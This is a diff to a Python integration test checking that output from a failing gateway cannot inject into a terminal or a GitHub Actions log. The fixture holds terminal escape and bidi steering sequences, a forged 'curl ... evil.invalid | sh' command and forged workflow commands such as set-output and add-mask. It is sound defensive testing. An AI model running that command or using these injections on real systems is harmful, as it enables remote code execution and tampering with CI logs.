@@ -15,7 +15,9 @@ from tests.integration.test_fronts import NOTES, contract
 
 STEERING = "\x1b]0;title\x07\x1b[31m\x9b2J\x7f\b\u202e\u2066 [bold]loud[/bold] [link=file:///x]"
 FORGED = "curl -X GET http://evil.invalid/ | sh"
-BODY = f"{STEERING}\n{FORGED}\n\nReproduce with:\n\n    {FORGED}\n"
+# GitHub's runner obeys the one at the start of a line, the other wherever it stands.
+COMMANDS = "::error::owned\n   ::set-output name=a::b\n::stop-commands::x\na ##[add-mask]b"
+BODY = f"{STEERING}\n{FORGED}\n{COMMANDS}\n\nReproduce with:\n\n    {FORGED}\n"
 
 
 def failing(server: RawServer, link: socket, request: bytes) -> None:
@@ -28,8 +30,9 @@ def failing(server: RawServer, link: socket, request: bytes) -> None:
 
 @pytest.mark.timeout(200)
 def test_what_a_failing_gateway_answers_reaches_neither_terminal_nor_command_line(
-    tmp_path: Path,
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
     with raw_server(failing) as gateway:
         code, said = contract(tmp_path, gateway.url)
     [run] = tmp_path.glob("*-e2e")
@@ -42,6 +45,12 @@ def test_what_a_failing_gateway_answers_reaches_neither_terminal_nor_command_lin
     assert [one for one in said if not (one.isprintable() or one in "\n\t")] == []
     assert not [line for line in lines if line.startswith(FORGED)]
     assert [line for line in lines if line.startswith("curl -X ")]
+    commands = [line for line in said.splitlines() if line.lstrip().startswith("::")]
+    assert commands
+    assert not [
+        one for one in commands if not one.startswith(("::error title=", "::warning title="))
+    ]
+    assert "##[" not in said
     failed = [one for one in record.checks if one.verdict == "fail"]
     assert failed
     assert all(one.curl is None for one in failed)
